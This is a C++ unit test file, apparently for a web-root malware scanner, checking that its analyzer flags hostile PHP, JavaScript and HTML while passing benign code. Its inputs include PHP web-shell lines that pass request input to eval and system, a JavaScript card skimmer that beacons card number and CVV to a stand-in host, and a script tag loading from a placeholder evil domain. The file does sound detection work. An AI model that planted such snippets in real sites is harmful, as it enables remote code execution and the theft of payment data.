// Behaviour analysis of one folded layer: what the code does (request input reaching
// execution, card fields sent away, a foreign script added to a page) is a trait; the same
// functions used as every shop uses them are not.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "webroot/code_lexer.h"

namespace tq::webroot {
namespace {

std::vector<CodeTrait> Php(std::string_view src) {
  LexResult r = LexPhp(src, false, LexLimits());
  std::vector<CodeTrait> out;
  AnalyzePhp(r.tokens, "php", out);
  return out;
}

std::vector<CodeTrait> Js(std::string_view src) {
  LexResult r = LexJs(src, LexLimits());
  std::vector<CodeTrait> out;
  AnalyzeJs(r.tokens, "js", false, out);
  return out;
}

int Strongest(const std::vector<CodeTrait>& t, std::string_view family = "") {
  int s = 0;
  for (const CodeTrait& c : t)
    if (family.empty() || c.family == family) s = std::max(s, c.strength);
  return s;
}

TEST(Behaviour, RequestInputReachingExecutionIsStrong) {
  EXPECT_GE(Strongest(Php("<?php eval($_POST['c']);"), "exec"), 3);
  EXPECT_GE(Strongest(Php("<?php $f = $_GET['f']; system($f);"), "exec"), 3);
  // The same functions on the application's own values are not an exec behaviour.
  EXPECT_LT(Strongest(Php("<?php system('/usr/bin/convert ' . escapeshellarg($path));"), "exec"),
            3);
  EXPECT_EQ(Strongest(Php("<?php echo htmlspecialchars($_GET['q']);"), "exec"), 0);
}

TEST(Behaviour, CardFieldsSentAwayIsAnExfilTrait) {
  auto t =
      Js("document.querySelector('#cc_number').addEventListener('change',function(){"
         "var d=document.getElementById('cc_number').value+document.getElementById("
         "'cc_cvv').value;new Image().src='https://stats.example.top/c?d='+btoa(d);});");
  EXPECT_GE(Strongest(t, "exfil"), 3);
  EXPECT_EQ(Strongest(Js("var total = price * qty; document.getElementById('sum').innerText ="
                         " total.toFixed(2);"),
                      "exfil"),
            0);
}

TEST(Behaviour, ForeignScriptHostsInHtml) {
  std::vector<CodeTrait> out;
  AnalyzeHtml("<html><head><script src=\"https://cdn.evil.example/s.js\"></script></head></html>",
              "html", out);
  EXPECT_FALSE(out.empty());
  std::vector<CodeTrait> none;
  AnalyzeHtml("<p>no scripts here</p>", "html", none);
  EXPECT_TRUE(none.empty());
}

}  // namespace
}  // namespace tq::webroot
